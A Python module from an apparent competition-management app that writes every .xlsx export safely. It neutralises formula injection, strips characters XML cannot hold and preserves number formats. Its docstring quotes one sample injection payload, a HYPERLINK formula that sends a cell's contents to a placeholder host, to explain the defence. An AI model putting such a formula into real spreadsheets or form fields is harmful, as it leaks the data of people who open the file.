"""The one spreadsheet writer: every .xlsx the application hands out is written here.

Registration lists, check-in lists, results, the audit log, the roster template — and every export
still to come (promotion rosters, certificates, statistics) — build their workbook with ``Book`` (or
``xlsx_table`` for a single sheet), so that three promises hold for all of them:

* Nothing in a cell is ever evaluated. A name such as ``=HYPERLINK("http://x/?"&D2,"check")`` typed
  into a registration form would otherwise reach the organizer's Excel as a live formula (OWASP,
  "CSV Injection"). Every string is written as a string cell; one that begins with ``=``, ``+``,
  ``-``, ``@``, tab or carriage return is also marked with Excel's quote prefix (what Excel itself
  stores when a person types ``'=...``), so that editing the cell later does not turn it into a
  formula either. ``csv_cell`` applies OWASP's rule for CSV (a leading apostrophe), should a CSV
  export ever be needed.
* A character a workbook cannot hold never crashes the export: XML 1.0 forbids most control
  characters, lone surrogates and U+FFFE/U+FFFF; each is written as U+FFFD (the replacement
  character) so the reader sees where something was. Text beyond Excel's 32,767 characters per cell is
  cut with an ellipsis.
* Numbers stay numbers and keep their places: a ``Decimal('90.50')`` is a number cell shown as
  ``90.50`` (format ``0.00``); ints are ints; dates and times are date cells in local time.

Usage::

    book = Book()
    sheet = book.sheet(_("Registrations"), widths=(8, 24, 12))
    sheet.header([_("No."), _("Name"), _("Total")])
    for r in rows:
        sheet.row([r.number, r.name, r.total])        # r.total a Decimal: shown as 90.50
    data = book.to_bytes()

Builders take plain values and return bytes; they never query the database.
"""

from __future__ import annotations

import io
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32_767                      # Excel's limit per cell
MAX_SHEET_TITLE = 31                         # Excel's limit per sheet name
REPLACEMENT = "\ufffd"
# What XML 1.0 cannot hold: C0 controls except tab/LF/CR, surrogates, U+FFFE and U+FFFF.
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_BOLD = Font(bold=True)
_WRAP = Alignment(wrap_text=True, vertical="top")


def writable_text(text: str) -> str:
    """``text`` with every character a workbook cannot hold replaced by U+FFFD, cut to Excel's cell limit."""
    text = _UNWRITABLE.sub(REPLACEMENT, text)
    if len(text) > MAX_CELL_CHARS:
        text = text[:MAX_CELL_CHARS - 1] + "…"
    return text


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet program would read ``text`` as a formula (OWASP's list of first characters)."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value: object) -> str:
    """A value for a CSV file: OWASP's rule, a leading apostrophe before a formula-like text."""
    text = "" if value is None else writable_text(str(value))
    return "'" + text if is_formula_like(text) else text


def decimal_format(value: Decimal) -> str:
    """The number format that shows ``value`` with the places it has: 90.50 -> ``0.00``, 3 -> ``0``."""
    exponent = value.as_tuple().exponent
    places = -exponent if isinstance(exponent, int) and exponent < 0 else 0
    return "0." + "0" * places if places else "0"


def _excel_datetime(value: datetime) -> datetime:
    """Excel has no time zones: aware times are shown in the federation's local time."""
    if value.tzinfo is None:
        return value
    from competitions.timezone import to_local

    return to_local(value)


def fill_cell(cell, value: object) -> None:
    """Put ``value`` into an openpyxl cell safely (see the module docstring); the one place values are written."""
    if value is None:
        cell.value = None
    elif isinstance(value, bool):
        cell.value = value
    elif isinstance(value, int):
        # Excel keeps 15 significant digits: longer integers (never ID numbers: those are text) become text.
        cell.value = value if abs(value) < 10**15 else str(value)
    elif isinstance(value, float):
        cell.value = value if math.isfinite(value) else str(value)
    elif isinstance(value, Decimal):
        if value.is_finite() and len(value.as_tuple().digits) <= 15:
            cell.value = value
            cell.number_format = decimal_format(value)
        else:
            _fill_text(cell, str(value))
    elif isinstance(value, datetime):
        cell.value = _excel_datetime(value)
        cell.number_format = "yyyy-mm-dd hh:mm"
    elif isinstance(value, date):
        cell.value = value
        cell.number_format = "yyyy-mm-dd"
    elif isinstance(value, time):
        cell.value = value
        cell.number_format = "hh:mm"
    else:
        _fill_text(cell, str(value))


def _fill_text(cell, text: str) -> None:
    text = writable_text(text)
    cell.value = text
    # openpyxl turns any text starting with "=" into a formula; a string cell is never evaluated.
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True


def sheet_title(title: str, taken: Iterable[str] = ()) -> str:
    """A sheet name Excel accepts: no ``[]:*?/\\``, at most 31 characters, not blank, unique in the book."""
    cleaned = writable_text(_SHEET_TITLE_FORBIDDEN.sub(" ", title)).strip().strip("'") or "Sheet"
    cleaned = cleaned[:MAX_SHEET_TITLE]
    taken_lower = {t.lower() for t in taken}
    candidate, n = cleaned, 1
    while candidate.lower() in taken_lower or candidate.lower() == "history":
        n += 1
        suffix = f" ({n})"
        candidate = cleaned[:MAX_SHEET_TITLE - len(suffix)] + suffix
    return candidate


class Sheet:
    """One worksheet of a ``Book``, written row by row (streamed: memory does not grow with the rows)."""

    def __init__(self, worksheet) -> None:
        self._ws = worksheet

    def _cells(self, values: Sequence[object], *, bold: bool = False, wrap: bool = False,
               formats: Sequence[str | None] = (), fill: str | None = None) -> list:
        cells = []
        for i, value in enumerate(values):
            cell = WriteOnlyCell(self._ws)
            fill_cell(cell, value)
            if bold:
                cell.font = _BOLD
            if wrap:
                cell.alignment = _WRAP
            if fill:
                cell.fill = PatternFill("solid", fgColor=fill)
            if i < len(formats) and formats[i]:
                cell.number_format = formats[i]
            cells.append(cell)
        return cells

    def header(self, values: Sequence[object], *, wrap: bool = False, fill: str | None = None,
               height: float | None = None) -> None:
        """A bold heading row (``fill`` an RGB colour such as "F2DCDB"; ``height`` in points)."""
        if height:
            self._ws.row_dimensions[self._ws._max_row + 1].height = height
        self._ws.append(self._cells(values, bold=True, wrap=wrap, fill=fill))

    def row(self, values: Sequence[object], *, bold: bool = False, wrap: bool = False,
            formats: Sequence[str | None] = ()) -> None:
        """One row of values (None leaves a cell empty); ``formats`` overrides the number format by column."""
        self._ws.append(self._cells(values, bold=bold, wrap=wrap, formats=formats))

    def choice_list(self, formula: str, cells: str, *, strict: bool = True) -> None:
        """A drop-down list on ``cells`` ("C2:C1001") from ``formula`` ('"男,女"' or "=lists!$A$1:$A$9")."""
        validation = DataValidation(type="list", formula1=formula, allow_blank=True, showErrorMessage=strict)
        validation.add(cells)
        self._ws.data_validations.append(validation)

    def rows(self, rows: Iterable[Sequence[object]]) -> None:
        """Many rows of values."""
        for values in rows:
            self.row(values)

    def blank(self) -> None:
        """An empty row."""
        self._ws.append([])


class Book:
    """A workbook built sheet by sheet; ``to_bytes`` gives the .xlsx file."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)
        self._titles: list[str] = []

    def sheet(self, title: str, *, widths: Sequence[int] = (), freeze_rows: int = 0, hidden: bool = False) -> Sheet:
        """A new sheet; ``widths`` are column widths in characters, ``freeze_rows`` keeps the top rows in view.

        Set both here: a streamed sheet takes them before its first row.
        """
        name = sheet_title(title, self._titles)
        self._titles.append(name)
        ws = self._book.create_sheet(name)
        if hidden:
            ws.sheet_state = "hidden"
        for i, width in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        if freeze_rows:
            ws.freeze_panes = f"A{freeze_rows + 1}"
        return Sheet(ws)

    def to_bytes(self) -> bytes:
        """The finished workbook (a book without sheets gets one empty sheet: Excel cannot open none)."""
        if not self._titles:
            self.sheet("Sheet")
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


def xlsx_table(title: str, headers: Sequence[str], rows: Iterable[Sequence[object]],
               widths: Sequence[int] = ()) -> bytes:
    """A one-sheet workbook: a bold, frozen header row and the rows below it."""
    book = Book()
    sheet = book.sheet(title, widths=widths, freeze_rows=1)
    sheet.header(headers)
    sheet.rows(rows)
    return book.to_bytes()
